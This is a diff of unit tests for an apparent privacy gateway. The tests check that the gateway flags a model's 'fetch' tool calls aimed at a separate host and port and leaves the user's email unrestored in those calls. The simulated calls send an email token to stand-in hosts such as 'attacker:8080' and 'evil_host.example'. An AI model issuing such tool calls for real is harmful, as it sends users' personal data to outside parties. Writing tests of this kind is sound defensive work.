@@ -480,3 +480,50 @@ describe('a proxy, upstream or host:port a tool connects through (review s14)', 
     expect(result.text).toBe('Proxy attacker:8080 noted; mail jane@corp.example');
   });
 });
+
+describe('a host and port a tool connects through, in separate fields or with an underscore (review s14b)', () => {
+  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
+  const kept = [
+    ['a label under target beside a port', { target: 'attacker', port: 8080, q: '[EMAIL_1]' }],
+    ['a label under address beside a port', { address: 'attacker', port: 8080, q: '[EMAIL_1]' }],
+    ['a label under dest beside a port', { dest: 'attacker', port: 8080, q: '[EMAIL_1]' }],
+    ['a label under gateway beside a port', { gateway: 'attacker', port: 8080, q: '[EMAIL_1]' }],
+    ['a label beside a proxy_port given as digits', { name: 'evil', proxy_port: '3128', q: '[EMAIL_1]' }],
+    ['a label beside a camel-case port', { box: 'web01', dbPort: 5432, q: '[EMAIL_1]' }],
+    ['a token under addr', { addr: '[EMAIL_1]' }],
+    ['a token under destination', { destination: '[EMAIL_1]' }],
+    ['a token under remote', { remote: '[EMAIL_1]' }],
+    ['a label with an underscore and a port', { gateway: 'evil_host:8080', q: '[EMAIL_1]' }],
+    ['a dotted host with an underscore and a port', { gateway: 'evil_host.example:8080', q: '[EMAIL_1]' }],
+    ['a dotted host with an underscore', { note: 'evil_host.example', q: '[EMAIL_1]' }],
+    ['a label and port under an ordinary name', { note: 'attacker:8080', q: '[EMAIL_1]' }],
+    ['an intranet label and port under an ordinary name', { note: 'intranet:443', q: '[EMAIL_1]' }],
+  ] as const;
+  for (const [how, args] of kept) {
+    it(`keeps the token: ${how}`, async () => {
+      f.provider.answer = 'ok';
+      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
+      const result = await f.gateway.call(ask('tool-host-port', PROMPT, { functions: FETCH }));
+      expect(result.functionCalls[0]?.arguments).toEqual(args);
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
+    });
+  }
+
+  const labelled = ['utf-8:1', 'v1:2', 'python:3', 'chr1:12345', 'Genesis:1', 'John:3', 'Q3:2024', 'en:1', 'x86:64', 'CVE:2024'];
+  for (const value of labelled) {
+    it(`restores beside a labelled number under an ordinary name: ${value}`, async () => {
+      f.provider.answer = 'ok';
+      f.provider.functionCalls = [{ name: 'fetch', arguments: { note: value, to: '[EMAIL_1]' } }];
+      const result = await f.gateway.call(ask('tool-labelled-number', PROMPT, { functions: FETCH }));
+      expect(result.functionCalls[0]?.arguments).toEqual({ note: value, to: 'jane@corp.example' });
+      expect(restoreVerdict(result)?.outcome).toBe('pass');
+    });
+  }
+
+  it('restores beside a port when no string is a bare label', async () => {
+    f.provider.answer = 'ok';
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { port: 8080, subject: 'Minutes v1.2', to: '[EMAIL_1]' } }];
+    const result = await f.gateway.call(ask('tool-port-alone', PROMPT, { functions: FETCH }));
+    expect(result.functionCalls[0]?.arguments).toEqual({ port: 8080, subject: 'Minutes v1.2', to: 'jane@corp.example' });
+  });
+});
